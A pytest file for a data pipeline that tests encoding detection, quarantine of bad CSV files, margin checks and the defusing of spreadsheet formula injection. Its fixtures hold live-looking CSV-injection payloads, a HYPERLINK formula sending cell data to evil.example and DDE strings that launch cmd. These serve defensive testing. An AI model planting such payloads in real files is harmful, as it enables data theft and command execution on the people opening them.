"""Bad input in files and text (issue 12, items 5-8): nothing lost, nothing silently wrong.

- item 5: text starting with = + - @ (or a tab / CR) reaches no BI mart as a live spreadsheet
  formula: staging prefixes it with an apostrophe (dbt macro `safe_text`), for every source;
- item 6: the text encoding of a CSV is detected (charset-normalizer): KOI8-R, Latin-1 and
  UTF-16 land as written, a file whose encoding cannot be placed is refused by name;
- item 7: a header-only file lands nothing and passes; a bad file (missing columns,
  undecodable) is quarantined whole with its reason while the other files land;
- item 8: a gross margin above the amount is refused at the raw contract, naming file and line.

The file tests run the real files source, the raw validation a run applies (contract + GX) and
landing into a scratch DuckDB warehouse; the text test builds the staging models on DuckDB (and
PostgreSQL with VORONKA_TEST_POSTGRES=1).
"""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from expectations import validate_records
from extractors.files import FilesSource, Limits, validate_file_rows
from extractors.sync import sync_entity
from warehouse.duckdb_backend import DuckDBWarehouse

HEADER = "order_id,order_date,amount,customer_name,product\n"
NAMES = [("Иванов Пётр", "Чай зелёный"), ("Сидорова Анна", "Кружка большая"),
         ("Кузнецов Олег", "Мёд липовый"), ("Смирнова Юлия", "Варенье вишнёвое")]
LATIN = [("José Müller", "Café crème"), ("François Søren", "Crêpe"), ("Zoë Ångström", "Pâté")]
LIMITS = Limits(latest=date(2026, 6, 30), currency="RUB")


def _csv(rows: list[tuple[str, str]], prefix: str, sep: str = ",") -> str:
    body = "".join(f"{prefix}-{i}{sep}2026-05-0{i + 1}{sep}100{sep}{name}{sep}{product}\n"
                   for i, (name, product) in enumerate(rows))
    return HEADER.replace(",", sep) + body


def _orders_dir(tmp_path: Path) -> Path:
    (tmp_path / "orders").mkdir(parents=True, exist_ok=True)
    return tmp_path / "orders"


def _pages(folder: Path, entity: str = "orders") -> list:
    return list(FilesSource(folder, account="shop").pages(entity, None))


def _records(folder: Path, entity: str = "orders") -> list:
    return [r for page in _pages(folder, entity) for r in page.records]


def _raw_suite(records: list) -> tuple[list, list]:
    verdict = validate_records(records)
    return verdict.good, verdict.quarantined


# -- item 6: encodings ------------------------------------------------------------------------
@pytest.mark.parametrize("encoding,rows", [
    ("koi8_r", NAMES), ("cp1251", NAMES), ("cp866", NAMES), ("latin_1", LATIN),
    ("cp1252", LATIN), ("utf-16", NAMES), ("utf-16-le", LATIN), ("utf-16-be", NAMES),
    ("utf-8-sig", NAMES), ("utf-8", LATIN),
])
def test_an_encoding_is_detected_and_the_text_lands_as_written(
    tmp_path: Path, encoding: str, rows: list[tuple[str, str]]
) -> None:
    sep = "\t" if encoding.startswith("utf-16") else ";"  # Excel's "Unicode text": UTF-16, tabs
    (_orders_dir(tmp_path) / "export.csv").write_bytes(_csv(rows, "E", sep).encode(encoding))
    records = _records(tmp_path)
    assert [(r.payload["customer_name"], r.payload["product"]) for r in records] == rows
    good, bad = validate_file_rows(records, LIMITS)
    assert (len(good), bad) == (len(rows), [])


def test_a_file_whose_encoding_cannot_be_placed_is_refused_by_name(tmp_path: Path) -> None:
    binary = bytes(range(256)) * 8
    (_orders_dir(tmp_path) / "scan.csv").write_bytes(HEADER.encode() + binary)
    [record] = _records(tmp_path)
    _, [refused] = validate_file_rows([record], LIMITS)
    assert refused.reason.startswith("scan.csv: the whole file is refused: cannot tell its text "
                                     "encoding")


def test_an_encoding_can_be_forced_when_a_short_file_cannot_be_placed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One short KOI8-R line fits a Japanese code page as well: refused, unless forced."""
    line = _csv(NAMES[:1], "S", ";").encode("koi8_r")
    (_orders_dir(tmp_path) / "short.csv").write_bytes(line)
    [refused] = _records(tmp_path)
    assert "cannot tell its text encoding" in refused.payload["_file_error"]
    monkeypatch.setenv("VORONKA_FILES_ENCODING", "koi8_r")
    [record] = _records(tmp_path)
    assert record.payload["customer_name"] == NAMES[0][0]
    monkeypatch.setenv("VORONKA_FILES_ENCODING", "no-such-codec")
    [refused] = _records(tmp_path)
    assert refused.payload["_file_error"].startswith("cannot be read as no-such-codec")


# -- item 7: header-only and bad files ---------------------------------------------------------
def test_a_header_only_file_lands_nothing_and_passes(tmp_path: Path) -> None:
    orders = _orders_dir(tmp_path)
    (orders / "today.csv").write_text(HEADER)
    (orders / "yesterday.csv").write_text(_csv(LATIN, "Y"))
    wh = DuckDBWarehouse(tmp_path / "w.duckdb")
    result = sync_entity(FilesSource(tmp_path, account="shop"), "orders", wh, run_id="r",
                         validate=_raw_suite)
    assert (result.inserted, result.quarantined) == (3, 0)


def test_a_bad_file_is_quarantined_whole_and_the_others_land(tmp_path: Path) -> None:
    orders = _orders_dir(tmp_path)
    (orders / "a_missing.csv").write_text("order_id,amount\nM-1,10\nM-2,20\n")
    (orders / "b_binary.csv").write_bytes(HEADER.encode() + bytes(range(256)) * 8)
    (orders / "c_good.csv").write_text(_csv(LATIN, "G"))
    wh = DuckDBWarehouse(tmp_path / "w.duckdb")
    result = sync_entity(FilesSource(tmp_path, account="shop"), "orders", wh, run_id="r",
                         validate=_raw_suite)
    assert (result.inserted, result.quarantined) == (3, 2)
    landed = wh.query_df("select record_id from raw.files__orders order by 1")
    assert landed.record_id.tolist() == ["G-0", "G-1", "G-2"]
    reasons = wh.query_df("select reason from raw._quarantine order by 1").reason.tolist()
    assert reasons[0] == ("a_missing.csv: the whole file is refused: required column(s) "
                          "'order_date' missing; the orders contract needs "
                          "['order_id', 'order_date', 'amount']")
    assert reasons[1].startswith("b_binary.csv: the whole file is refused: cannot tell its "
                                 "text encoding")


# -- item 8: gross margin above the amount -----------------------------------------------------
def test_a_gross_margin_above_the_amount_is_refused_with_file_and_line(tmp_path: Path) -> None:
    (_orders_dir(tmp_path) / "margins.csv").write_text(
        "order_id,order_date,amount,gross_margin\n"
        "M-1,2026-05-01,100,40\n"
        "M-2,2026-05-01,100,120\n"        # line 3: margin above the amount
        "M-3,2026-05-01,100,60\n"
        "M-3,2026-05-01,10,11\n"          # line 5: a line above its own amount
        "M-4,2026-05-01,100,100\n")       # equal: a 100 % margin is possible
    good, bad = _raw_suite(_records(tmp_path))
    assert [r.record_id for r in good] == ["M-1", "M-4"]
    assert {q.record.record_id: q.reason for q in bad} == {
        "M-2": "margins.csv line 3: field 'gross_margin' is above the amount: "
               "gross_margin '120' > amount '100'",
        "M-3": "margins.csv line 5: field 'gross_margin' is above the amount: "
               "gross_margin '11' > amount '10'",
    }


def test_the_raw_suite_alone_also_refuses_a_margin_above_the_amount() -> None:
    """Defence in depth: GX's orders suite checks the pair too (for rows no contract saw)."""
    from expectations.raw import RAW_SUITES
    from warehouse.records import RawRecord

    suite = RAW_SUITES[("files", "orders")]
    payload = {"order_id": "X", "order_date": "2026-05-01", "amount": "10",
               "gross_margin": "12", "_file": "x.csv", "_line": 2}
    record = RawRecord("files", "shop", "orders", "X", payload)
    bare = replace(suite, contract=None)
    RAW_SUITES[("files", "orders")] = bare
    try:
        [refused] = validate_records([record]).quarantined
    finally:
        RAW_SUITES[("files", "orders")] = suite
    assert refused.reason == ("x.csv line 2: field 'gross_margin' expected gross_margin <= "
                              "amount, got gross_margin='12', amount='10' "
                              "(expect_column_pair_values_a_to_be_greater_than_b)")


def test_a_formula_in_a_key_column_is_quarantined_with_file_and_line(tmp_path: Path) -> None:
    """Keys (order_id, customer_id, campaign_id) join tables, so staging cannot rewrite them:
    a key that is a spreadsheet formula is refused instead; a signed number stays a key."""
    (_orders_dir(tmp_path) / "keys.csv").write_text(
        "order_id,order_date,amount,customer_id,customer_phone\n"
        "=1+1,2026-05-01,100,,\n"
        "K-2,2026-05-01,100,@SUM(A1),\n"
        "K-3,2026-05-01,100,-15,+7 916 123-45-67\n")   # a number and a phone: fine
    (tmp_path / "ad_spend").mkdir()
    (tmp_path / "ad_spend" / "s.csv").write_text(
        "date,platform,campaign_id,spend\n2026-05-01,radio,+cmd|x,10\n")
    good, bad = validate_file_rows(_records(tmp_path), LIMITS)
    assert [r.record_id for r in good] == ["K-3"]
    formula = "looks like a spreadsheet formula (starts with = + - @, a tab or CR), got"
    assert [q.reason for q in bad] == [
        f"keys.csv line 2: field 'order_id' {formula} '=1+1'",
        f"keys.csv line 3: field 'customer_id' {formula} '@SUM(A1)'"]
    _, [spend] = validate_file_rows(_records(tmp_path, "ad_spend"), LIMITS)
    assert spend.reason == f"s.csv line 2: field 'campaign_id' {formula} '+cmd|x'"


# -- item 5: formula-leading text never reaches a mart live ------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_ORDERS = (
    "order_id,order_date,amount,customer_name,product,utm_source,utm_campaign\n"
    'F-1,2026-05-01,100,-2+3,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
    "@SUM(1+1),-cmd\n"
    "F-2,2026-05-02,50,Анна,Чай,yandex,spring\n"
)
FORMULA_SPEND = ("date,platform,campaign_id,campaign_name,spend\n"
                 "2026-05-01,radio,R1,+cmd|' /C calc'!A0,10\n")
AMO_LEAD = {"id": 7, "name": "=1+1", "price": 100, "created_at": 1777600000,
            "updated_at": 1777600000, "status_id": 142, "pipeline_id": 1,
            "custom_fields_values": [
                {"field_code": "UTM_SOURCE", "values": [{"value": "=cmd|' /C calc'!A0"}]},
                {"field_code": "UTM_MEDIUM", "values": [{"value": "cpc"}]}]}
DIRECT_ROW = {"Date": "2026-05-01", "CampaignId": "11", "CampaignName": "-Brand+", "Impressions":
              "10", "Clicks": "1", "Cost": "1000000", "_currency": "RUB"}


@pytest.fixture(scope="module", params=["duckdb", pytest.param("postgres",
                                                                marks=pytest.mark.postgres)])
def formula_build(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory):
    """Formula-leading text landed in files, amoCRM and Yandex Direct raw tables, then the
    staging models and fct_orders built by dbt (models and seeds only: this data is not a
    business, the shared builds run the data tests)."""
    from _support import run_dbt, scratch_warehouse

    from warehouse.contact_points import build_contact_points
    from warehouse.identity import build_identity
    from warehouse.records import RawRecord

    workdir = tmp_path_factory.mktemp(f"formulas_{request.param}")
    folder = workdir / "drop"
    (folder / "orders").mkdir(parents=True)
    (folder / "ad_spend").mkdir()
    (folder / "orders" / "shop.csv").write_text(FORMULA_ORDERS)
    (folder / "ad_spend" / "radio.csv").write_text(FORMULA_SPEND)
    with scratch_warehouse(request.param, workdir, "formulas") as (wh, env):
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("VORONKA_AS_OF_DATE", "2026-06-30")
            source = FilesSource(folder, account="shop")
            for entity in ("orders", "ad_spend"):
                result = sync_entity(source, entity, wh, run_id="r", validate=_raw_suite)
                assert result.quarantined == 0
        wh.land([RawRecord("amocrm", "acme", "leads", "7", AMO_LEAD),
                 RawRecord("yandex_direct", "client", "campaign_stats", "11|2026-05-01",
                           DIRECT_ROW)], "r")
        build_contact_points(wh)
        build_identity(wh)
        code, out, _ = run_dbt(workdir, env, "build", "--select", "+fct_orders",
                               "stg_files__ad_spend", "stg_yandex_direct__campaign_stats",
                               "+stg_amocrm__leads", "--exclude-resource-type", "test",
                               "unit_test", "--vars", "{as_of_date: '2026-06-30'}")
        assert code == 0, out[-3000:]
        yield wh


def test_formula_text_is_neutralised_in_staging_and_marts(formula_build) -> None:
    wh = formula_build
    orders = wh.query_df("select order_id, customer_name, product, utm_source, utm_campaign "
                         "from staging.stg_files__orders order by order_id")
    assert orders.to_dict("records") == [
        {"order_id": "F-1", "customer_name": "'-2+3", "product": "'" + FORMULA,
         "utm_source": "'@sum(1+1)", "utm_campaign": "'-cmd"},
        {"order_id": "F-2", "customer_name": "Анна", "product": "Чай", "utm_source": "yandex",
         "utm_campaign": "spring"},
    ]
    categories = wh.query_df("select product_category from marts.fct_orders where "
                             "product_category is not null order by 1").product_category.tolist()
    assert categories == ["'" + FORMULA, "Чай"]
    lead = wh.query_df("select lead_name, utm_source, utm_medium from staging.stg_amocrm__leads")
    assert lead.to_dict("records") == [
        {"lead_name": "'=1+1", "utm_source": "'=cmd|' /c calc'!a0", "utm_medium": "cpc"}]
    names = [wh.query_df(f"select campaign_name from staging.{model}").campaign_name.tolist()
             for model in ("stg_files__ad_spend", "stg_yandex_direct__campaign_stats")]
    assert names == [["'+cmd|' /C calc'!A0"], ["'-Brand+"]]
